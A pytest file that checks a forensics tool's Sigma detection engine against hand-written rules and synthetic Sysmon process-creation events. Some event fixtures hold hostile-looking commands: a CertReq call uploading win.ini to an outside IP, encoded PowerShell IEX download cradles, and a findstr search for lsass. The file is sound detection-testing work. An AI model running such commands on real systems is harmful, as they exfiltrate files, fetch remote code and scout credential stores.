"""Every Sigma modifier and condition form against literal expectations, through the real engine.

Each case is a small hand-written rule and events with known field values, each marked True (the rule must
match it) or False.  The events are written as a real EVTX file by ``collectors/evtx_writer.py`` (Sysmon
process creation, as SigmaHQ's rules expect), collected into a real case by the project's collector, and the
rules run over it by ``sigma.run`` on DuckDB; the same rows as a pandas DataFrame give the same answer.

Every rule also requires its own ``CaseId``, so a rule can only match its own events, and the test checks
the exact set of events each rule matched.
"""

from __future__ import annotations

import base64
import datetime as dt
import uuid

import pytest
import yaml

import forensics
from collectors.evtx_writer import Event, write_evtx

pytest.importorskip("sigma")
from forensics import sigma  # noqa: E402

UTC = dt.timezone.utc
T0 = dt.datetime(2022, 11, 23, 1, 30, tzinfo=UTC)
NS = uuid.UUID("0b7c6a52-3c1e-4f6e-9a39-6f1a7a1f0c11")
EN, EM, BAR = "\u2013", "\u2014", "\u2015"


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# (case, detection (without the marker), condition, [(event data, should match)], logsource category)
CASES = [
    # --- values are text: LIKE's _ % and \ are literal, only Sigma's * and ? are wildcards
    ("underscore", {"sel": {"Image|endswith": "______.exe"}}, "sel", [
        ({"Image": r"C:\Windows\System32\csrss.exe"}, False),  # ten characters, none of them "_"
        ({"Image": r"C:\Windows\System32\smss.exe"}, False),
        ({"Image": r"C:\Users\a\invoice.pdf______.exe"}, True)]),
    ("percent", {"sel": {"CommandLine|contains": "100%"}}, "sel", [
        ({"CommandLine": "set x=1000"}, False),
        ({"CommandLine": "echo 100% done"}, True)]),
    ("backslash", {"sel": {"Image|endswith": r"\cmd.exe"}}, "sel", [
        ({"Image": r"C:\Windows\System32\cmd.exe"}, True),
        ({"Image": "C:/Windows/System32/xcmd.exe"}, False),
        ({"Image": r"C:\Windows\System32\CMD.EXE"}, True)]),  # case-insensitive
    ("double backslash", {"sel": {"CommandLine|contains": r"\\\\server\\share"}}, "sel", [  # Sigma: \\ is one \
        ({"CommandLine": r"net use \\server\share"}, True),
        ({"CommandLine": r"net use \server\share"}, False)]),
    ("quote", {"sel": {"CommandLine|contains": "it's"}}, "sel", [
        ({"CommandLine": "echo it's me"}, True),
        ({"CommandLine": "echo its me"}, False)]),
    ("equals", {"sel": {"User": r"NT AUTHORITY\SYSTEM"}}, "sel", [
        ({"User": r"nt authority\system"}, True),
        ({"User": r"NT AUTHORITY\SYSTEM2"}, False),
        ({"User": r"xNT AUTHORITY\SYSTEM"}, False)]),
    ("wildcards", {"sel": {"CommandLine": "*a?c*"}}, "sel", [
        ({"CommandLine": "xxABCxx"}, True),
        ({"CommandLine": "xxacxx"}, False),
        ({"CommandLine": "a_c"}, True)]),
    ("escaped wildcard", {"sel": {"CommandLine|contains": r"a\*b"}}, "sel", [
        ({"CommandLine": "x a*b y"}, True),
        ({"CommandLine": "x axxb y"}, False)]),
    ("startswith", {"sel": {"CommandLine|startswith": "cmd /c"}}, "sel", [
        ({"CommandLine": "CMD /C dir"}, True),
        ({"CommandLine": "xcmd /c dir"}, False)]),
    ("contains all", {"sel": {"CommandLine|contains|all": ["-enc", "hidden"]}}, "sel", [
        ({"CommandLine": "powershell -enc AAA -w hidden"}, True),
        ({"CommandLine": "powershell -enc AAA"}, False)]),
    ("list is any", {"sel": {"Image|endswith": [r"\a.exe", r"\b.exe"]}}, "sel", [
        ({"Image": r"C:\b.exe"}, True),
        ({"Image": r"C:\c.exe"}, False)]),
    ("windash", {"sel": {"CommandLine|windash|contains": " -enc "}}, "sel", [
        ({"CommandLine": "powershell /enc AAA"}, True),
        ({"CommandLine": f"powershell {EN}enc AAA"}, True),
        ({"CommandLine": f"powershell {EM}enc AAA"}, True),
        ({"CommandLine": f"powershell {BAR}enc AAA"}, True),
        ({"CommandLine": "powershell -enc AAA"}, True),
        ({"CommandLine": "powershell enc AAA"}, False)]),
    # --- regular expressions: a search, case-sensitive unless |i; m and s as in Python/RE2
    ("re", {"sel": {"CommandLine|re": "a[0-9]+b"}}, "sel", [
        ({"CommandLine": "xa123by"}, True),
        ({"CommandLine": "xA123By"}, False),
        ({"CommandLine": "xab"}, False)]),
    ("re i", {"sel": {"CommandLine|re|i": "A[0-9]+B"}}, "sel", [
        ({"CommandLine": "xa123by"}, True)]),
    ("re m", {"sel": {"CommandLine|re|m": "^b$"}}, "sel", [
        ({"CommandLine": "a\nb\nc"}, True)]),
    ("re without m", {"sel": {"CommandLine|re": "^b$"}}, "sel", [
        ({"CommandLine": "a\nb\nc"}, False),
        ({"CommandLine": "b"}, True)]),
    ("re s", {"sel": {"CommandLine|re|s": "a.b"}}, "sel", [
        ({"CommandLine": "a\nb"}, True)]),
    ("re without s", {"sel": {"CommandLine|re": "a.b"}}, "sel", [
        ({"CommandLine": "a\nb"}, False)]),
    ("re quote", {"sel": {"CommandLine|re": "it's [a-z]+"}}, "sel", [
        ({"CommandLine": "it's me"}, True)]),
    # --- cidr
    ("cidr v4", {"sel": {"IpAddress|cidr": ["10.0.0.0/8", "192.168.0.0/23"]}}, "sel", [
        ({"IpAddress": "10.1.2.3"}, True),
        ({"IpAddress": "110.1.2.3"}, False),
        ({"IpAddress": "::ffff:10.1.2.3"}, True),  # as Windows writes IPv4 peers of dual-stack sockets
        ({"IpAddress": "192.168.1.5"}, True),
        ({"IpAddress": "192.168.2.1"}, False),
        ({"IpAddress": "-"}, False)]),
    ("cidr v6", {"sel": {"IpAddress|cidr": "fe80::/10"}}, "sel", [
        ({"IpAddress": "FE80::1"}, True),
        ({"IpAddress": "fec0::1"}, False)]),
    # --- encodings
    ("base64", {"sel": {"CommandLine|base64|contains": "hello"}}, "sel", [
        ({"CommandLine": "x " + b64(b"hello") + " y"}, True),
        ({"CommandLine": "x hello y"}, False)]),
    ("base64offset", {"sel": {"CommandLine|base64offset|contains": "http://"}}, "sel", [
        ({"CommandLine": "powershell -e " + b64(b"http://198.51.100.7/a")}, True),
        ({"CommandLine": "powershell -e " + b64(b"x http://198.51.100.7/a")}, True),
        ({"CommandLine": "powershell -e " + b64(b"xy http://198.51.100.7/a")}, True),
        ({"CommandLine": "powershell -e " + b64(b"https://198.51.100.7/a")}, False)]),
    ("utf16le base64offset", {"sel": {"CommandLine|utf16le|base64offset|contains": "IEX ("}}, "sel", [
        ({"CommandLine": "powershell -enc " + b64("$x=1; IEX (New-Object Net.WebClient)".encode("utf-16le"))}, True),
        ({"CommandLine": "powershell -enc " + b64("$x=1; IEX (New-Object Net.WebClient)".encode())}, False)]),
    ("wide base64offset", {"sel": {"CommandLine|wide|base64offset|contains": "IEX ("}}, "sel", [
        ({"CommandLine": "powershell -enc " + b64("ab IEX (x".encode("utf-16le"))}, True)]),
    # --- field references, existence, null
    ("fieldref", {"sel": {"TargetFilename|fieldref": "Image"}}, "sel", [
        ({"TargetFilename": r"C:\Users\a\x.exe", "Image": r"c:\users\A\X.EXE"}, True),
        ({"TargetFilename": r"C:\Users\a\y.exe", "Image": r"C:\Users\a\x.exe"}, False),
        ({"TargetFilename": r"C:\Users\a\y.exe"}, False)]),
    ("fieldref startswith", {"sel": {"CommandLine|fieldref|startswith": "Image"}}, "sel", [
        ({"CommandLine": r"C:\a.exe -x", "Image": r"C:\a.exe"}, True),
        ({"CommandLine": r"run C:\a.exe", "Image": r"C:\a.exe"}, False)]),
    ("fieldref endswith", {"sel": {"CommandLine|fieldref|endswith": "Image"}}, "sel", [
        ({"CommandLine": r"run C:\a.exe", "Image": r"C:\a.exe"}, True),
        ({"CommandLine": r"C:\a.exe -x", "Image": r"C:\a.exe"}, False)]),
    ("fieldref contains", {"sel": {"CommandLine|fieldref|contains": "User"}}, "sel", [
        ({"CommandLine": "runas /user:bob x", "User": "BOB"}, True),
        ({"CommandLine": "runas /user:eve x", "User": "bob"}, False)]),
    ("exists", {"sel": {"ParentCommandLine|exists": True}}, "sel", [
        ({"ParentCommandLine": "explorer.exe"}, True),
        ({"Image": "x"}, False)]),
    ("exists false", {"sel": {"ParentCommandLine|exists": False}}, "sel", [
        ({"ParentCommandLine": "explorer.exe"}, False),
        ({"Image": "x"}, True)]),
    ("null", {"sel": {"ParentImage": None}}, "sel", [
        ({"Image": "x"}, True),
        ({"ParentImage": r"C:\Windows\explorer.exe"}, False)]),
    # --- numbers
    ("number", {"sel": {"LogonType": 3}}, "sel", [
        ({"LogonType": 3}, True),
        ({"LogonType": 10}, False),
        ({"LogonType": "3"}, True)]),
    ("gt", {"sel": {"Count|gt": 5}}, "sel", [
        ({"Count": 7}, True),
        ({"Count": "10"}, True),  # a number, not text: "10" > 5
        ({"Count": 5}, False),
        ({"Count": "many"}, False)]),
    ("gte", {"sel": {"Count|gte": 5}}, "sel", [({"Count": 5}, True), ({"Count": 4}, False)]),
    ("lt", {"sel": {"Count|lt": 5}}, "sel", [({"Count": 4}, True), ({"Count": 5}, False), ({"Image": "x"}, False)]),
    ("lte", {"sel": {"Count|lte": 5}}, "sel", [({"Count": 5}, True), ({"Count": 6}, False)]),
    # --- cased
    ("cased", {"sel": {"CommandLine|cased": "Hello"}}, "sel", [
        ({"CommandLine": "Hello"}, True),
        ({"CommandLine": "hello"}, False)]),
    ("contains cased", {"sel": {"CommandLine|contains|cased": "W_rld"}}, "sel", [
        ({"CommandLine": "Hello W_rld!"}, True),
        ({"CommandLine": "Hello w_rld!"}, False),
        ({"CommandLine": "Hello Wxrld!"}, False)]),
    # --- conditions
    ("not of a missing field", {"sel": {"Image|endswith": r"\x.exe"}, "filter": {"User": "bob"}}, "sel and not filter", [
        ({"Image": r"C:\x.exe"}, True),  # no User at all: the filter does not match, so "not filter" is true
        ({"Image": r"C:\x.exe", "User": "BOB"}, False),
        ({"Image": r"C:\x.exe", "User": "alice"}, True)]),
    ("1 of selection_*", {"selection_a": {"Image|endswith": r"\a.exe"}, "selection_b": {"Image|endswith": r"\b.exe"},
                          "other": {"Image|endswith": r"\c.exe"}}, "1 of selection_*", [
        ({"Image": r"C:\b.exe"}, True),
        ({"Image": r"C:\c.exe"}, False)]),
    ("all of selection_*", {"selection_a": {"CommandLine|contains": "aaa"}, "selection_b": {"CommandLine|contains": "bbb"}},
     "all of selection_*", [
        ({"CommandLine": "aaa bbb"}, True),
        ({"CommandLine": "aaa"}, False)]),
    ("not 1 of filter_*", {"sel": {"Image|endswith": r"\x.exe"}, "filter_a": {"User": "a"}, "filter_b": {"User": "b"}},
     "sel and not 1 of filter_*", [
        ({"Image": r"C:\x.exe", "User": "b"}, False),
        ({"Image": r"C:\x.exe", "User": "c"}, True)]),
    ("or and parentheses", {"a": {"Image|endswith": r"\a.exe"}, "b": {"User": "u"}, "c": {"Count": 1}},
     "(a or b) and not c", [
        ({"Image": r"C:\a.exe", "Count": 2}, True),
        ({"User": "u", "Count": 1}, False),
        ({"Image": r"C:\z.exe", "User": "v"}, False)]),
    ("list of maps is or", {"sel": [{"Image|endswith": r"\a.exe"}, {"User": "u"}]}, "sel", [
        ({"User": "U"}, True),
        ({"Image": r"C:\z.exe"}, False)]),
]

# keywords (unbound values) search the whole record: logsource without category, marker checked with it
KEYWORD_CASES = [
    ("keyword", {"keywords": ["evil_thing"]}, "keywords", [
        ({"Payload": "x EVIL_THING y"}, True),
        ({"Payload": "x evilXthing y"}, False)]),
    ("keyword backslash", {"keywords": [r"C:\evil\x.exe"]}, "keywords", [  # attrs is JSON: \ is written \\ there
        ({"Payload": r"ran C:\Evil\x.exe"}, True),
        ({"Payload": r"ran C:/evil/x.exe"}, False)]),
    ("keyword all of them", {"keywords": ["alpha", "beta"]}, "keywords", [
        ({"Payload": "beta"}, True),
        ({"Payload": "gamma"}, False)]),
]


def _rule(case: str, detection: dict, condition: str, category: str | None) -> dict:
    logsource = {"product": "windows", **({"category": category} if category else {})}
    return {"title": f"modifier case: {case}", "id": str(uuid.uuid5(NS, case)), "status": "test",
            "logsource": logsource, "level": "high", "tags": ["attack.execution", "attack.t1059.001"],
            "detection": {"marker": {"CaseId": case}, **detection, "condition": f"marker and ({condition})"}}


@pytest.fixture(scope="module")
def modifier_case(tmp_path_factory):
    root = tmp_path_factory.mktemp("sigma-modifiers")
    rules, events, expected = root / "rules", [], {}
    rules.mkdir()
    for cases, category in ((CASES, "process_creation"), (KEYWORD_CASES, None)):
        for case, detection, condition, rows in cases:
            rule = _rule(case, detection, condition, category)
            (rules / f"{uuid.uuid5(NS, case)}.yml").write_text(yaml.safe_dump(rule, allow_unicode=True))
            for data, should in rows:
                events.append(Event(1, T0 + dt.timedelta(seconds=len(events)), "Microsoft-Windows-Sysmon",
                                    "Microsoft-Windows-Sysmon/Operational", "WKS-01", event_data={**data, "CaseId": case}))
                expected.setdefault(rule["id"], set())
                if should:
                    expected[rule["id"]].add(f"record={len(events)}")
    evidence = root / "evidence"
    evidence.mkdir()
    write_evtx(evidence / "Microsoft-Windows-Sysmon%4Operational.evtx", events)
    case = forensics.Case(root / "case", create=True)
    rep = case.collect([evidence], workers=1)
    assert rep.errors == 0 and rep.records_read == len(events)
    return case, rules, expected


def _matched(run) -> dict[str, set[str]]:
    got: dict[str, set[str]] = {}
    for rid, ref in zip(run.matches["rule_id"], run.matches["record_ref"]):
        got.setdefault(rid, set()).add(ref.split()[0])
    return got


def test_every_modifier_matches_exactly_the_events_it_describes(modifier_case):
    case, rules, expected = modifier_case
    run = sigma.run(forensics.open(case.path), rules)
    assert run.conversion_errors == {} and run.evaluation_errors == {} and run.skipped == {}
    assert run.rules_loaded == run.rules_converted == len(CASES) + len(KEYWORD_CASES)
    got = _matched(run)
    titles = {str(uuid.uuid5(NS, c[0])): c[0] for c in CASES + KEYWORD_CASES}
    wrong = {titles[rid]: (sorted(got.get(rid, set())), sorted(want)) for rid, want in expected.items()
             if got.get(rid, set()) != want}
    assert wrong == {}


def test_a_dataframe_of_the_rows_gives_the_same_matches(modifier_case):
    case, rules, _ = modifier_case
    tl = forensics.open(case.path)
    by_timeline = sigma.run(tl, rules).matches
    by_frame = sigma.run(tl.to_pandas(), rules).matches
    assert len(by_frame) == len(by_timeline) > 40
    assert by_frame.drop(columns=["local_time"]).equals(by_timeline.drop(columns=["local_time"]))


def test_a_regular_expression_re2_cannot_run_is_reported_for_its_rule(modifier_case, tmp_path):
    case, _, _ = modifier_case
    good = _rule("re ok", {"sel": {"CommandLine|re": "a[0-9]+b"}}, "sel", "process_creation")
    bad = _rule("re lookahead", {"sel": {"CommandLine|re": "a(?=b)"}}, "sel", "process_creation")
    for r in (good, bad):
        (tmp_path / f"{r['id']}.yml").write_text(yaml.safe_dump(r))
    run = sigma.run(forensics.open(case.path), tmp_path)
    assert list(run.evaluation_errors) == [bad["id"]]
    assert "invalid perl operator: (?=" in run.evaluation_errors[bad["id"]]
    assert run.rules_converted == 2 and run.matches.empty  # "re ok" has no event of its own here


def test_sigmahq_rules_with_windash_and_fieldref_fire_on_the_events_they_describe(sigma_dir, tmp_path):
    """The issue's report: SigmaHQ rules using |windash and |fieldref did not fire on events they describe."""
    rules = sigma_dir / "rules" / "windows"
    certreq = "4480827a-9799-4232-b2c4-ccc6c4e9e12b"  # CertReq download: CommandLine|contains|windash '-Post', '-config'
    findstr = "fe63010f-8823-4864-a96b-a7b4a0f7b929"  # findstr lsass: CommandLine|contains|windash ' /i "lsass'...
    sysmon, chan = "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"
    events = [
        Event(1, T0, sysmon, chan, "WKS-01", event_data={
            "Image": r"C:\Windows\System32\certreq.exe", "OriginalFileName": "CertReq.exe",
            "CommandLine": r"certreq.exe /Post /config http://198.51.100.7/ c:\windows\win.ini out.txt"}),
        Event(1, T0 + dt.timedelta(seconds=1), sysmon, chan, "WKS-01", event_data={
            "Image": r"C:\Windows\System32\findstr.exe", "OriginalFileName": "FINDSTR.EXE",
            "CommandLine": f'tasklist | findstr {EN}i "lsass'}),
        Event(23, T0 + dt.timedelta(seconds=2), sysmon, chan, "WKS-01", event_data={
            "Image": r"C:\Users\bob\AppData\Local\Temp\dropper.exe",
            "TargetFilename": r"C:\Users\bob\AppData\Local\Temp\Dropper.exe"}),
        Event(23, T0 + dt.timedelta(seconds=3), sysmon, chan, "WKS-01", event_data={
            "Image": r"C:\Windows\explorer.exe", "TargetFilename": r"C:\Users\bob\Desktop\notes.txt"}),
    ]
    evidence = tmp_path / "evidence"
    evidence.mkdir()
    write_evtx(evidence / "Microsoft-Windows-Sysmon%4Operational.evtx", events)
    case = forensics.Case(tmp_path / "case", create=True)
    case.collect([evidence], workers=1)
    delete_own = yaml.safe_load((rules / "file/file_delete/file_delete_win_delete_own_image.yml").read_text())["id"]
    run = sigma.run(forensics.open(case.path), [rules / "process_creation", rules / "file" / "file_delete"])
    fired = {(rid, ref.split()[0]) for rid, ref in zip(run.matches["rule_id"], run.matches["record_ref"])}
    assert (certreq, "record=1") in fired
    assert (findstr, "record=2") in fired
    assert (delete_own, "record=3") in fired and (delete_own, "record=4") not in fired  # TargetFilename|fieldref: Image
